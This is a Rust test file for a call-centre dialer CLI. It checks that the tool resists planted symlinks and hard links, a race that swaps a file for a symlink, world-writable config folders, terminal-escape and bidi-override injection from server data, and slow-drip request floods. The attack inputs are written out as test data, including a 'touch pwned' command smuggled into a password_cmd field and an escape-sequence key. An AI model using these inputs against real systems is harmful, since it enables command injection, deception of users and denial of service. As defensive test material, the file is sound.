                .env("TDC_PASSWORD", "pw"),
        )
    };
    let (code, _, stderr) = assign(&blocked);
    assert_eq!(code, 1, "{stderr}");
    assert!(
        stderr.contains(&format!(
            "PUT /api/campaign-leads/mass-assign: cannot write the audit log {}",
            blocked.join("tdc/audit.jsonl").display()
        )),
        "{stderr}"
    );
    assert!(
        stderr
            .contains("refused: a change to a remote dialer is sent only when it can be recorded"),
        "{stderr}"
    );
    assert!(
        proxy_seen.lock().unwrap().is_empty(),
        "{:?}",
        proxy_seen.lock().unwrap()
    );
    // With a log it can write, the change goes out (and the proxy turns it away).
    let state = home.join("state");
    let (code, _, stderr) = assign(&state);
    assert_eq!(code, 1, "{stderr}");
    assert_eq!(
        proxy_seen.lock().unwrap().first().map(String::as_str),
        Some("CONNECT dialer.example:443 - "),
        "{stderr}"
    );
    assert!(std::fs::read_to_string(state.join("tdc/audit.jsonl"))
        .unwrap()
        .contains("/api/campaign-leads/mass-assign"));

    // On loopback an unwritable log is a warning, and the change is made.
    let (url, seen, _dialer) = recording_stub(|_| json(r#"{"success": true}"#));
    profile_on(&home, &url, "");
    let (code, _, stderr) = output(
        tdc(&home)
            .args(["--profile", "p", "eval", "td.assign([1], 12)"])
            .env("XDG_STATE_HOME", &blocked)
            .env("PW", "pw"),
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains("warning: cannot write the audit log"),
        "{stderr}"
    );
    assert_eq!(seen.lock().unwrap().len(), 1);
}

/// A folder for a shared script, with a secret and tdc's config outside it; `tdc` runs there.
struct Planted {
    home: common::TempDir,
    scripts: std::path::PathBuf,
    outside: std::path::PathBuf,
    config: std::path::PathBuf,
}

const CONFIG_TEXT: &str = "[profiles.p]\nurl = \"https://dialer.example\"\n";

fn planted(name: &str) -> Planted {
    let home = temp_dir(name);
    let config = write_config(&home, CONFIG_TEXT);
    let scripts = home.join("work");
    let outside = home.join("outside");
    std::fs::create_dir_all(&scripts).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    Planted {
        home,
        scripts,
        outside,
        config,
    }
}

impl Planted {
    /// `tdc run` of `script` written in the script folder, which is the working directory too.
    fn run(&self, script: &str) -> (i32, String, String) {
        let file = self.scripts.join("shared.rhai");
        std::fs::write(&file, script).unwrap();
        output(
            tdc(&self.home)
                .current_dir(&self.scripts)
                .arg("run")
                .arg(&file),
        )
    }
}

#[cfg(unix)]
#[test]
fn a_planted_symlink_beside_a_written_file_leads_nowhere() {
    use std::os::unix::fs::symlink;
    let p = planted("planted-part");
    symlink(&p.config, p.scripts.join("out.csv.part")).unwrap();
    symlink(&p.config, p.scripts.join("out.json.part")).unwrap();
    let script = "write_csv([#{ password_cmd: \"touch pwned\" }], \"out.csv\");\n\
                  write_json(#{ password_cmd: \"touch pwned\" }, \"out.json\");";
    let (code, _, stderr) = p.run(script);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(std::fs::read_to_string(&p.config).unwrap(), CONFIG_TEXT);
    let csv = std::fs::read_to_string(p.scripts.join("out.csv")).unwrap();
    assert_eq!(csv, "password_cmd\ntouch pwned\n");
    // A symlink to a file outside is not written through, and a name planted for the temporary
    // file is never used: whatever the random name is, it is gone after the write.
    let notes = p.outside.join("notes.txt");
    std::fs::write(&notes, "mine\n").unwrap();
    symlink(&notes, p.scripts.join("linked.json")).unwrap();
    let (code, _, stderr) = p.run("write_json(#{ a: 1 }, \"linked.json\");");
    assert_eq!(code, 1);
    assert!(
        stderr.contains(&format!(
            "allow it with --allow-write {}",
            p.outside.display()
        )),
        "{stderr}"
    );
    assert_eq!(std::fs::read_to_string(&notes).unwrap(), "mine\n");
    let mut names: Vec<String> = std::fs::read_dir(&p.scripts)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "linked.json",
            "out.csv",
            "out.csv.part",
            "out.json",
            "out.json.part",
            "shared.rhai"
        ]
    );
}

#[cfg(unix)]
#[test]
fn export_to_reads_and_writes_nothing_through_planted_symlinks() {
    use std::os::unix::fs::symlink;
    let sandbox = Sandbox::start(&["--leads", "50", "--cdrs", "200"]);
    let p = planted("planted-export");
    let run = |folder: &str| {
        let file = p.scripts.join("export.rhai");
        std::fs::write(
            &file,
            format!("print(export_to(td.cdrs(), \"{folder}\", #{{ format: \"ndjson\" }}).rows);"),
        )
        .unwrap();
        output(
            tdc_on(&sandbox, &p.home)
                .current_dir(&p.scripts)
                .arg("run")
                .arg(&file),
        )
    };
    // A folder of the dataset linked outside receives nothing.
    std::fs::create_dir_all(p.scripts.join("wh")).unwrap();
    symlink(&p.outside, p.scripts.join("wh/cdrs")).unwrap();
    let (code, _, stderr) = run("wh");
    assert_eq!(code, 1, "{stderr}");
    assert!(
        stderr.contains(&format!(
            "is not allowed: scripts may use files under their own folder and the working directory; allow it with --allow-write {}",
            p.outside.display()
        )),
        "{stderr}"
    );
    assert_eq!(std::fs::read_dir(&p.outside).unwrap().count(), 0);
    // A partition file linked to a secret is neither merged into the dataset nor written.
    let (code, stdout, stderr) = run("wh2");
    assert_eq!((code, stdout.trim()), (0, "200"), "{stderr}");
    // The last day: a run again reads the overlap from its cursor and merges it there.
    let day = std::fs::read_dir(p.scripts.join("wh2/cdrs"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|path| path.is_dir())
        .max()
        .unwrap();
    let secret = p.outside.join("credentials");
    let secret_text = "{\"id\": \"999999\", \"aws_secret\": \"outside-secret-3\"}\n";
    std::fs::write(&secret, secret_text).unwrap();
    std::fs::remove_file(day.join("part-0.ndjson")).unwrap();
    symlink(&secret, day.join("part-0.ndjson")).unwrap();
    let (code, stdout, stderr) = run("wh2");
    assert_eq!(code, 1, "{stdout}");
    assert!(
        stderr.contains(&format!(
            "allow it with --allow-write {}",
            p.outside.display()
        )),
        "{stderr}"
    );
    assert!(!stderr.contains("outside-secret-3"), "{stderr}");
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), secret_text);
}

#[cfg(unix)]
#[test]
fn imports_are_read_under_the_same_rules_as_files() {
    use std::os::unix::fs::symlink;
    let p = planted("planted-import");
    let secret = p.outside.join("environ");
    std::fs::write(&secret, "PASSWORD=outside-secret-4\0HOME=/root\0").unwrap();
    symlink(&secret, p.scripts.join("helpers.rhai")).unwrap();
    let (code, _, stderr) = p.run("\nimport \"helpers\" as h;\n");
    assert_eq!(code, 1);
    assert!(stderr.contains("allow it with --allow-read"), "{stderr}");
    assert!(!stderr.contains("outside-secret-4"), "{stderr}");
    // The refusal is the importing line's: that file, that line, shown.
    assert!(
        stderr.contains("shared.rhai:2:8: error: import:"),
        "{stderr}"
    );
    assert!(stderr.contains("2 | import \"helpers\" as h;"), "{stderr}");
    // An absolute path outside is not loaded (nor run).
    std::fs::write(
        p.outside.join("tool.rhai"),
        "print(\"outside code ran\");\n",
    )
    .unwrap();
    let script = format!("import \"{}\" as t;\n", p.outside.join("tool").display());
    let (code, stdout, stderr) = p.run(&script);
    assert_eq!(code, 1);
    assert!(!stdout.contains("outside code ran"), "{stdout}");
    assert!(stderr.contains("allow it with --allow-read"), "{stderr}");
    // A compile error in a module quotes its line cut short, and no other line.
    let long = format!(
        "let a = 1;\nlet b = \"{}\" + ;\nlet c = \"line three secret\";\n",
        "x".repeat(5000)
    );
    std::fs::write(p.scripts.join("long.rhai"), long).unwrap();
    let (code, _, stderr) = p.run("import \"long\" as l;\n");
    assert_eq!(code, 1);
    assert!(stderr.contains("long.rhai:2:"), "{stderr}");
    assert!(stderr.len() < 1000, "{} bytes: {stderr}", stderr.len());
    assert!(!stderr.contains("line three secret"), "{stderr}");
}

#[cfg(unix)]
#[test]
fn a_racing_process_swapping_a_file_for_a_symlink_gets_nothing_outside() {
    use std::sync::atomic::{AtomicBool, Ordering};
    let p = planted("planted-race");
    let secret = p.outside.join("secret.json");
    let secret_text = "{\"secret\": \"outside-secret-5\"}\n";
    std::fs::write(&secret, secret_text).unwrap();
    let target = p.scripts.join("data.json");
    std::fs::write(&target, "{\"ok\": 1}\n").unwrap();
    let stop = Arc::new(AtomicBool::new(false));
    let swapper = {
        let (stop, scripts, secret) = (stop.clone(), p.scripts.clone(), secret.clone());
        std::thread::spawn(move || {
            let (link, file) = (scripts.join(".swap-link"), scripts.join(".swap-file"));
            let started = Instant::now();
            let mut swaps = 0;
            while !stop.load(Ordering::Relaxed) && started.elapsed() < Duration::from_secs(2) {
                let _ = std::fs::remove_file(&link);
                let _ = std::os::unix::fs::symlink(&secret, &link);
                let _ = std::fs::rename(&link, scripts.join("data.json"));
                let _ = std::fs::write(&file, "{\"ok\": 2}\n");
                let _ = std::fs::rename(&file, scripts.join("data.json"));
                swaps += 1;
            }
            swaps
        })
    };
    let script = "let started = timestamp();\n\
                  let calls = 0;\n\
                  while started.elapsed < 2.0 {\n\
                      calls += 1;\n\
                      try { let v = read_json(\"data.json\"); if \"secret\" in v { print(\"LEAK \" + v.secret); } } catch {}\n\
                      try { write_json(#{ written: calls }, \"data.json\"); } catch {}\n\
                  }\n\
                  print(`calls ${calls}`);";
    let (code, stdout, stderr) = p.run(script);
    stop.store(true, Ordering::Relaxed);
    let swaps = swapper.join().unwrap();
    assert_eq!(code, 0, "{stderr}");
    assert!(swaps > 100, "the swapper ran {swaps} times");
    assert!(stdout.contains("calls "), "{stdout}");
    assert!(!stdout.contains("LEAK"), "{stdout}");
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), secret_text);
}

#[cfg(unix)]
#[test]
fn a_piped_repl_has_a_scripts_file_powers() {
    let p = planted("planted-repl");
    let repl = |input: &str| common::output_with_input(tdc(&p.home).current_dir(&p.scripts), input);
    let bashrc = p.home.join(".bashrc");
    let (_, _, stderr) = repl(&format!("let x = 1;\n:save {}\n", bashrc.display()));
    assert!(
        stderr.contains(&format!("allow it with --allow-write {}", p.home.display())),
        "{stderr}"
    );
    assert!(!bashrc.exists());
    let (_, stdout, stderr) = repl(&format!(":load {}\n", p.config.display()));
    assert!(stderr.contains("one of tdc's own files"), "{stderr}");
    assert!(!stdout.contains("dialer.example") && !stderr.contains("dialer.example"));
    let (_, stdout, stderr) = repl("let x = 40;\n:save session.rhai\n");
    assert!(stdout.contains("saved 1 entries"), "{stdout}{stderr}");
    assert_eq!(mode_of(&p.scripts.join("session.rhai")), 0o600);
    let (_, stdout, _) = repl(":load session.rhai\nx + 2\n");
    assert!(stdout.contains("42"), "{stdout}");
}

#[cfg(unix)]
#[test]
fn every_file_a_script_writes_is_private() {
    let sandbox = Sandbox::start(&["--leads", "50", "--cdrs", "100"]);
    let p = planted("private-outputs");
    let file = p.scripts.join("outputs.rhai");
    std::fs::write(
        &file,
        "let rows = [#{ hour: 1, asr: 40.0 }, #{ hour: 2, asr: 45.0 }];\n\
         write_csv(rows, \"rows.csv\");\n\
         write_json(rows, \"rows.json\");\n\
         write_chart(rows, \"hour\", \"asr\", \"asr.svg\", #{});\n\
         export_to(td.cdrs(), \"wh\", #{ format: \"csv\" });",
    )
    .unwrap();
    let (code, _, stderr) = output(
        tdc_on(&sandbox, &p.home)
            .current_dir(&p.scripts)
            .arg("run")
            .arg(&file),
    );
    assert_eq!(code, 0, "{stderr}");
    let mut written = vec![
        p.scripts.join("rows.csv"),
        p.scripts.join("rows.json"),
        p.scripts.join("asr.svg"),
    ];
    for day in std::fs::read_dir(p.scripts.join("wh/cdrs")).unwrap() {
        let day = day.unwrap().path();
        written.push(if day.is_dir() {
            day.join("part-0.csv")
        } else {
            day
        });
    }
    assert!(written.len() > 4);
    for path in written {
        assert_eq!(mode_of(&path), 0o600, "{}", path.display());
    }
}

#[cfg(unix)]
#[test]
fn config_folders_others_can_write_or_own_are_refused() {
    use std::os::unix::fs::PermissionsExt;
    let home = temp_dir("config-folder-mode");
    let path = write_config(&home, CONFIG_TEXT);
    let folder = path.parent().unwrap();
    std::fs::set_permissions(folder, std::fs::Permissions::from_mode(0o777)).unwrap();
    let (code, _, stderr) = output(tdc(&home).args(["config"]));
    assert_eq!(code, 2, "{stderr}");
    assert_eq!(
        common::error_lines(&stderr),
        [format!(
            "tdc: {}: others can write to this folder (mode 777), so tdc will not read the config in it: its password_cmd would run as you; run chmod go-w {}",
            folder.display(),
            folder.display()
        )]
    );
    std::fs::set_permissions(folder, std::fs::Permissions::from_mode(0o700)).unwrap();
    let (code, _, stderr) = output(tdc(&home).args(["config"]));
    assert_eq!(code, 0, "{stderr}");
    // Another user's config (only root can make one to try).
    if std::os::unix::fs::chown(&path, Some(65534), None).is_ok() {
        let (code, _, stderr) = output(tdc(&home).args(["config"]));
        assert_eq!(code, 2, "{stderr}");
        assert!(
            stderr.contains("is owned by another user (uid 65534)"),
            "{stderr}"
        );
    }
}

#[cfg(unix)]
#[test]
fn a_hard_link_to_a_file_outside_is_refused() {
    let p = planted("planted-hard-link");
    let secret = p.outside.join("secret.json");
    std::fs::write(&secret, "{\"secret\": \"outside-secret-6\"}\n").unwrap();
    std::fs::hard_link(&secret, p.scripts.join("linked.json")).unwrap();
    let (code, stdout, stderr) = p.run("read_json(\"linked.json\")");
    assert_eq!(code, 1, "{stdout}");
    assert!(!stdout.contains("outside-secret-6") && !stderr.contains("outside-secret-6"));
    assert!(
        stderr.contains(
            "read_json: linked.json: has 2 names (a hard link); tdc reads and writes files with one name only"
        ),
        "{stderr}"
    );
}

#[test]
fn a_slow_reader_of_a_long_listing_holds_bounded_memory() {
    // Each row waits for a request of its own, or for a reader taking 1 ms a line: the
    // listing is read far slower than it could be fetched. The stream's budget (20 pages,
    // 32 MiB of answers) holds about 90 MB in all; before it did, memory grew by tens of MB
    // a second, pages fetched ahead of the reader piling up.
    let sandbox = Sandbox::start(&["--cdrs", "200000", "--leads", "10"]);
    let home = temp_dir("slow-reader");
    let script = home.join("slow.rhai");
    std::fs::write(
        &script,
        "let n = 0;\nfor c in td.cdrs() { td.campaigns(); n += 1; if n % 100 == 0 { print(n); } }\n",
    )
    .unwrap();
    let (peak, lines) =
        common::peak_mb_with_slow_reader(tdc_on(&sandbox, &home).arg("run").arg(&script), 10);
    assert!(lines > 0, "the script made progress");
    assert!(
        peak < 160,
        "a script calling the dialer for each row peaked at {peak} MB"
    );
    let (peak, lines) = common::peak_mb_with_slow_reader(
        tdc_on(&sandbox, &home).args(["eval", "-o", "ndjson", "td.cdrs()"]),
        10,
    );
    assert!(lines > 1000, "the reader read {lines} lines");
    assert!(peak < 160, "ndjson into a slow reader peaked at {peak} MB");
}

/// `command` with its address space limited to `mb` MB, as `ulimit -v` would.
fn with_memory_limit(command: &mut std::process::Command, mb: u64) -> &mut std::process::Command {
    use std::os::unix::process::CommandExt;
    let limit = libc::rlimit {
        rlim_cur: mb << 20,
        rlim_max: mb << 20,
    };
    // SAFETY: setrlimit is async-signal-safe and touches nothing of the parent's.
    unsafe {
        command.pre_exec(move || match libc::setrlimit(libc::RLIMIT_AS, &limit) {
            0 => Ok(()),
            _ => Err(std::io::Error::last_os_error()),
        })
    }
}

#[test]
fn running_out_of_memory_is_one_error_line_not_an_abort() {
    let home = temp_dir("out-of-memory");
    let (code, stdout, stderr) = output(with_memory_limit(
        tdc(&home).args([
            "--sandbox",
            "eval",
            "let a = []; let s = \"0123456789\"; loop { a.push(s + a.len()); }",
        ]),
        400,
    ));
    assert_eq!(code, 1, "{stderr}");
    assert_eq!(stdout, "");
    let lines: Vec<&str> = stderr
        .lines()
        .filter(|l| !l.contains("the embedded sandbox at"))
        .collect();
    assert_eq!(lines.len(), 1, "{stderr}");
    assert!(lines[0].starts_with("tdc: out of memory ("), "{stderr}");
}

#[test]
fn json_of_values_nested_past_the_parsers_depth_is_refused() {
    // 20,000 arrays one inside the other: each level was copied whole on the way to JSON.
    let home = temp_dir("deep-json");
    let deep = "let a = []; for i in 0..20000 { a = [take(a)]; }";
    let cases = [format!("{deep} to_json(a).len()"), format!("{deep} a")];
    for code_text in cases {
        let started = Instant::now();
        let (code, stdout, stderr) = output(with_memory_limit(
            tdc(&home).args(["--sandbox", "eval", &code_text]),
            1024,
        ));
        assert_eq!((code, stdout.as_str()), (1, ""), "{code_text}: {stderr}");
        assert!(
            stderr.contains("nested deeper than 127 levels cannot be written as JSON"),
            "{code_text}: {stderr}"
        );
        assert!(started.elapsed() < Duration::from_secs(20), "{code_text}");
    }
}

#[test]
fn keys_c1_controls_bidi_overrides_and_newlines_from_a_server_are_shown_escaped() {
    // A record whose key sets the title and clears the screen, whose values carry a C1 CSI
    // and a right-to-left override; and an error whose message forges a line of tdc's own.
    let (url, _seen, _runtime) = recording_stub(|uri| {
        if !uri.starts_with("/api/campaigns") {
            return (
                StatusCode::UNPROCESSABLE_ENTITY,
                [("content-type", "application/json")],
                r#"{"success":false,"message":"refused\ntdc: all 3 leads added\r\n"}"#,
            )
                .into_response();
        }
        json(
            r#"{"campaigns":[{"id":1,"name\u001b]0;pwned\u0007\u001b[2J":"x","note":"a\u009b2Jb","file":"invoice\u202efdp.exe\u2066"}]}"#,
        )
    });
    let home = temp_dir("server-text");
    let tdc_at = || {
        let mut command = tdc(&home);
        command
            .args(["--url", &url, "--user", "ops", "--yes"])
            .env("TDC_PASSWORD", "x");
        command
    };
    let (code, stdout, stderr) = output(tdc_at().args(["eval", "-o", "table", "td.campaigns()"]));
    assert_eq!(code, 0, "{stderr}");
    for raw in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{2066}'] {
        assert!(!stdout.contains(raw), "{raw:?} sent raw: {stdout:?}");
    }
    assert!(stdout.contains("name\\e]0;pwned\\x07\\e[2J"), "{stdout}");
    assert!(stdout.contains("a\\x9b2Jb"), "{stdout}");
    assert!(
        stdout.contains("invoice\\u{202e}fdp.exe\\u{2066}"),
        "{stdout}"
    );
    // CSV and JSON written to a terminal (a pseudo-terminal from util-linux's `script`): CSV
    // shows the controls as text does, JSON writes them as its own escapes.
    for (format, shown) in [
        ("csv", "a\\x9b2Jb"),
        ("ndjson", "a\\u009b2Jb"),
        ("json", "invoice\\u202efdp.exe\\u2066"),
    ] {
        let command = format!(
            "{} --url '{url}' --user ops eval -o {format} 'td.campaigns()'",
            common::BIN
        );
        let terminal = std::process::Command::new("script")
            .args(["-q", "-e", "-c", &command, "/dev/null"])
            .env("TDC_PASSWORD", "x")
            .env("HOME", &home)
            .env("NO_COLOR", "1")
            .stdin(std::process::Stdio::null())
            .output()
            .expect("run script(1)");
        let stdout = common::text(&terminal.stdout);
        for raw in ['\u{1b}', '\u{9b}', '\u{202e}', '\u{2066}'] {
            assert!(
                !stdout.contains(raw),
                "{format}: {raw:?} sent raw: {stdout:?}"
            );
        }
        assert!(stdout.contains(shown), "{format}: {stdout:?}");
    }
    let (code, _, stderr) =
        output(tdc_at().args(["eval", r#"td.add_leads([#{ phone: "447700000003" }])"#]));
    assert_eq!(code, 1);
    assert!(
        stderr.lines().all(|line| !line.starts_with("tdc: all 3")),
        "a forged line: {stderr}"
    );
    assert!(
        stderr.contains("refused\\ntdc: all 3 leads added\\x0d\\n"),
        "{stderr}"
    );
}

/// A connection to `address` from 127.0.0.2 that sends an authenticated POST's headers
/// announcing a 1,000-byte body, then its first byte; `None` when the twin refuses it.
fn dripping_post(address: std::net::SocketAddr) -> Option<std::net::TcpStream> {
    use std::io::Write;
    let socket = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).ok()?;
    socket
        .bind(&std::net::SocketAddr::from(([127, 0, 0, 2], 0)).into())
        .ok()?;
    socket.connect(&address.into()).ok()?;
    let mut stream: std::net::TcpStream = socket.into();
    let head = format!(
        "POST /api/leads HTTP/1.1\r\nHost: x\r\nAuthorization: {}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n[",
        basic("sandbox", "sandbox")
    );
    stream.write_all(head.as_bytes()).ok()?;
    Some(stream)
}

/// Seconds a plain authenticated GET from 127.0.0.1 waits for its answer's first line.
fn answered_in(address: std::net::SocketAddr) -> Duration {
    use std::io::{Read, Write};
    let started = Instant::now();
    let mut stream = std::net::TcpStream::connect(address).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let request = format!(
        "GET /api/campaigns HTTP/1.1\r\nHost: x\r\nAuthorization: {}\r\nConnection: close\r\n\r\n",
        basic("sandbox", "sandbox")
    );
    stream.write_all(request.as_bytes()).unwrap();
    let mut first = [0u8; 12];
    let read = stream.read_exact(&mut first);
    assert!(read.is_ok(), "no answer in 10 s");
    assert_eq!(&first, b"HTTP/1.1 200");
    started.elapsed()
}

#[test]
fn dripping_request_bodies_cannot_starve_the_twin() {
    use std::io::Write;
    let sandbox = Sandbox::start(&["--leads", "10", "--cdrs", "10"]);
    let address: std::net::SocketAddr = sandbox.url.trim_start_matches("http://").parse().unwrap();
    // 600 POSTs from one address, each dripping its body a byte at a time: more than the
    // twin's 512 slots.
    let mut drips: Vec<std::net::TcpStream> =
        (0..600).filter_map(|_| dripping_post(address)).collect();
    let started = Instant::now();
    while started.elapsed() < Duration::from_secs(3) {
        for stream in &mut drips {
            let _ = stream.write_all(b" ");
        }
        std::thread::sleep(Duration::from_millis(500));
    }
    let waited = answered_in(address);
    assert!(waited < Duration::from_secs(5), "answered after {waited:?}");
    // Within the body's time-out (10 s after the headers) every dripping request is answered
    // 408 or closed, however steadily it drips.
    while started.elapsed() < Duration::from_secs(13) {
        for stream in &mut drips {
            let _ = stream.write_all(b" ");
        }
        std::thread::sleep(Duration::from_millis(500));
    }
    let still_open = drips
        .iter()
        .filter(|stream| !is_closed(stream, Instant::now()))
        .count();
    assert_eq!(still_open, 0, "dripping requests still held after 13 s");
}
